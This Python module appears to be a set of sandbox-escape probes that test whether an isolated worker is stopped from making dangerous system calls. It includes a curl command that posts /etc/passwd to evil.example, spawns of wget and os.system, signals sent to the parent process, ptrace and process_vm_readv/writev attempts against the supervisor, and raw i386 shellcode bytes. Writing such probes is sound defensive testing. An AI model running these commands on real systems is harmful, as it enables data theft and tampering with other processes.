"""System calls that no honest load makes."""

# ruff: noqa: PTH101, PTH208
from __future__ import annotations

import ctypes
import os
import time
from typing import TYPE_CHECKING, Any

import raw

if TYPE_CHECKING:
    from collections.abc import Sequence


def make(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Make each of argument["calls"]: [name, register...]. What each met."""
    return {str(index): raw.call(*call) for index, call in enumerate(argument["calls"])}


def execute(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Run a program in every way that starts one."""
    argv = ["curl", "-d", "@/etc/passwd", "http://evil.example/"]
    script = raw.scratch("payload.sh")
    with open(script, "w") as file:
        file.write("#!/bin/sh\n")
    os.chmod(script, 0o755)
    descriptor = os.open(script, os.O_RDONLY)
    loader = "/lib64/ld-linux-x86-64.so.2"
    return {
        "execve": raw.attempt(lambda: os.execve("/usr/bin/curl", argv, {})),
        "of its own": raw.attempt(lambda: os.execv(script, [script])),
        "fexecve": raw.attempt(lambda: os.execve(descriptor, [script], {})),
        "of the loader": raw.attempt(lambda: os.execv(loader, [loader, script])),
        "posix_spawn": raw.attempt(lambda: os.posix_spawn("/usr/bin/wget", ["wget"], {})),
        "system": str(os.system("id > /tmp/id")),
    }


def signal_supervisor(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Every signal to one's parent. What each met."""
    met = {str(number): raw.attempt(lambda: os.kill(os.getppid(), number)) for number in range(65)}  # noqa: B023
    met["tgkill"] = raw.call("tgkill", os.getppid(), os.getppid(), 9)
    return met


def signal_others(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Signal 0 to oneself, to argument["pids"] and to the supervisor, in each way. What each met."""
    met = {
        "oneself": raw.attempt(lambda: os.kill(os.getpid(), 0)),
        "own thread": raw.call("tgkill", os.getpid(), os.getpid(), 0),
    }
    for pid in (*argument["pids"], os.getppid()):
        met[f"kill {pid}"] = raw.attempt(lambda: os.kill(pid, 0))  # noqa: B023
        if pid > 0:
            met[f"tgkill {pid}"] = raw.call("tgkill", pid, pid, 0)
            met[f"owner {pid}"] = _own_a_pipe(pid)
    return met


def _own_a_pipe(pid: int) -> str:
    """Let another process get the signals of a pipe of ours: F_SETOWN."""
    import fcntl

    return raw.attempt(lambda: fcntl.fcntl(os.pipe()[0], 8, pid))


def look_into_supervisor(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Trace it, read it, copy its descriptors, change how it is run."""
    whom = os.getppid()
    buffer = ctypes.create_string_buffer(64)
    here = raw.LIBC and ctypes.create_string_buffer(
        ctypes.addressof(buffer).to_bytes(8, "little") + (64).to_bytes(8, "little")
    )
    return {
        "attach": raw.call("ptrace", 16, whom, 0, 0),
        "seize": raw.call("ptrace", 0x4206, whom, 0, 0),
        "traceme": raw.call("ptrace", 0, 0, 0, 0),
        "read": raw.call("process_vm_readv", whom, here, 1, here, 1, 0),
        "write": raw.call("process_vm_writev", whom, here, 1, here, 1, 0),
        "pidfd": raw.call("pidfd_open", whom, 0),
        "getfd": raw.call("pidfd_getfd", 3, 0, 0),
        "nice": raw.call("setpriority", 0, whom, 19),
        "affinity": raw.call("sched_setaffinity", whom, 8, (1).to_bytes(8, "little")),
        "scheduler": raw.call("sched_setscheduler", whom, 5, bytes(4)),
        "limits": raw.call("prlimit64", whom, 7, bytes(16), 0),
        "mem": raw.attempt(lambda: os.open(f"/proc/{whom}/mem", os.O_RDONLY)),
        "maps": raw.attempt(lambda: os.open(f"/proc/{whom}/maps", os.O_RDONLY)),
        "fd": raw.attempt(lambda: os.listdir(f"/proc/{whom}/fd")),
        "root": raw.attempt(lambda: os.listdir(f"/proc/{whom}/root")),
    }


def die_of(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Make a call of another architecture in a child. How the child ended."""
    pid = os.fork()
    if pid == 0:
        if argument["how"] == "x32":
            raw.LIBC.syscall(ctypes.c_long(0x40000000 | raw.NUMBERS["getpid"]))
        else:
            # mov eax, 20 (getpid of i386); int 0x80; ret
            raw.code(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")()
        os._exit(0)
    status = os.waitpid(pid, 0)[1]
    return {"signal": os.WTERMSIG(status) if os.WIFSIGNALED(status) else 0}


def look_around(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """What a worker sees of where it is."""
    descriptors = {}
    for descriptor in range(1024):
        try:
            found = os.fstat(descriptor)
        except OSError:
            continue
        descriptors[str(descriptor)] = [found.st_mode, found.st_rdev]
    return {
        "environment": dict(os.environ),
        "descriptors": descriptors,
        "outputs": list(outputs),
        "stdin": os.read(0, 1).decode(),
        "root": raw.attempt(lambda: os.listdir("/")),
        "ids": [*os.getresuid(), *os.getresgid(), *os.getgroups()],
        "name": list(os.uname()),
        "pid": os.getpid(),
    }


def hold(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Sleep with a thread and a child, so that somebody can look from outside."""
    import threading

    if os.fork() == 0:
        time.sleep(300)
    threading.Thread(target=time.sleep, args=(300,), daemon=True).start()
    time.sleep(0.05)
    time.sleep(300)
    return {}


def everything(argument: dict[str, Any], outputs: Sequence[int]) -> dict[str, Any]:
    """Search one's own memory for a word, as a payload that steals would."""
    needle = argument["head"].encode() + argument["tail"].encode()
    import gc

    seen = [repr(each) for each in gc.get_objects() if isinstance(each, dict)]
    return {"found": any(needle.decode() in each for each in seen)}
